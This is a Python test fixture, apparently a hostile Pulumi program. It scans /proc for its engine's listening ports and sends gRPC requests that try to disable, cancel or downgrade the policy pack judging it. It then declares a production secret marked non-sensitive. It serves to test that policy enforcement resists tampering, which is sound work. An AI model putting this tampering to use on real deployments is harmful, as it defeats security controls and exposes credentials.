"""A hostile Pulumi program: finds the policy pack that judges it and tries to talk it round, then does what is refused.

Run by `test_hostile_program.py`. It tries every port that the engine's other children
listen on, as any program of the same user can.
"""

import os
import socket
from contextlib import suppress
from datetime import UTC, datetime
from pathlib import Path

import grpc
import pulumi
import pulumiverse_vercel as vercel
from google.protobuf import message_factory
from google.protobuf.empty_pb2 import Empty
from pulumi.runtime.proto import analyzer_pb2 as pb
from pulumi.runtime.proto.analyzer_pb2_grpc import AnalyzerStub

LISTENING = "0A"
PROC = Path("/proc")


def parents() -> dict[int, int]:
    found = {}
    for status in PROC.glob("[0-9]*/stat"):
        with suppress(OSError):
            found[int(status.parent.name)] = int(status.read_text().rpartition(")")[2].split()[1])
    return found


def ancestors(process: int, parent: dict[int, int]) -> list[int]:
    chain = [process]
    while parent.get(chain[-1], 0) > 1:
        chain.append(parent[chain[-1]])
    return chain


def listening_ports() -> set[int]:
    """The ports of everything that the engine of this run started, and of no other run on this machine."""
    parent = parents()
    [engine] = [pid for pid in ancestors(os.getpid(), parent) if (PROC / f"{pid}/comm").read_text().strip() == "pulumi"]
    family = [pid for pid in parent if engine in ancestors(pid, parent)]
    sockets = set()
    for descriptor in (one for pid in family for one in PROC.glob(f"{pid}/fd/*")):
        with suppress(OSError):
            sockets.add(str(descriptor.readlink()))
    rows = [row.split() for table in ("tcp", "tcp6") for row in (PROC / "net" / table).read_text().splitlines()[1:]]
    return {int(row[1].split(":")[1], 16) for row in rows if row[3] == LISTENING and f"socket:[{row[9]}]" in sockets}


def speaks_http2(port: int) -> bool:
    with socket.create_connection(("127.0.0.1", port), timeout=1) as connection:
        connection.settimeout(1)
        connection.sendall(b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n\x00\x00\x00\x04\x00\x00\x00\x00\x00")
        try:
            return len(connection.recv(9)) == 9
        except OSError:
            return False


METHODS = pb.DESCRIPTOR.services_by_name["Analyzer"].methods


def code(stub: AnalyzerStub, method: str, request: object) -> str:
    try:
        getattr(stub, method)(request, timeout=2)
    except grpc.RpcError as error:
        return str(error.code().name)
    return "accepted"


def talk_round(stub: AnalyzerStub) -> str:
    """What the environment asks for: switch all rules off, end the pack, call it a preview, or everything there is."""
    attack = os.environ.get("ATTACK", "")
    if attack == "every-method":
        asked = ((each.name, message_factory.GetMessageClass(each.input_type)()) for each in METHODS)
        return " ".join(f"{method}={code(stub, method, request)}" for method, request in asked)
    if attack == "cancel":
        stub.Cancel(Empty(), timeout=2)
    elif attack == "preview":
        stub.ConfigureStack(pb.AnalyzerStackConfigureRequest(dry_run=True), timeout=2)
    else:
        info = stub.GetAnalyzerInfo(Empty(), timeout=2) if attack == "ask-first" else None
        names = [policy.name for policy in info.policies] if info else ["env-secret-must-be-sensitive", "all"]
        off = pb.PolicyConfig(enforcementLevel=pb.DISABLED)
        stub.Configure(pb.ConfigureAnalyzerRequest(policyConfig=dict.fromkeys(names, off)), timeout=2)
    return "accepted"


for port in listening_ports():
    try:
        if not speaks_http2(port):
            continue
        with grpc.insecure_channel(f"127.0.0.1:{port}") as channel:
            answer = talk_round(AnalyzerStub(channel))
    except grpc.RpcError as error:
        answer = error.code().name
    except OSError:
        continue
    # UNIMPLEMENTED is somebody else's port: the engine's or a provider's.
    if answer not in ("UNIMPLEMENTED", "UNAVAILABLE"):
        pulumi.log.info(f"attack: {answer}")

vercel.ProjectEnvironmentVariable(
    "weak",
    project_id="prj_1",
    key="DB_PASSWORD",
    value="hunter2hunter2",
    sensitive=False,
    targets=["production"],
    comment=f"secret-ref=vault://kv/shop#password version=1 rotated={datetime.now(UTC).date()}",
)
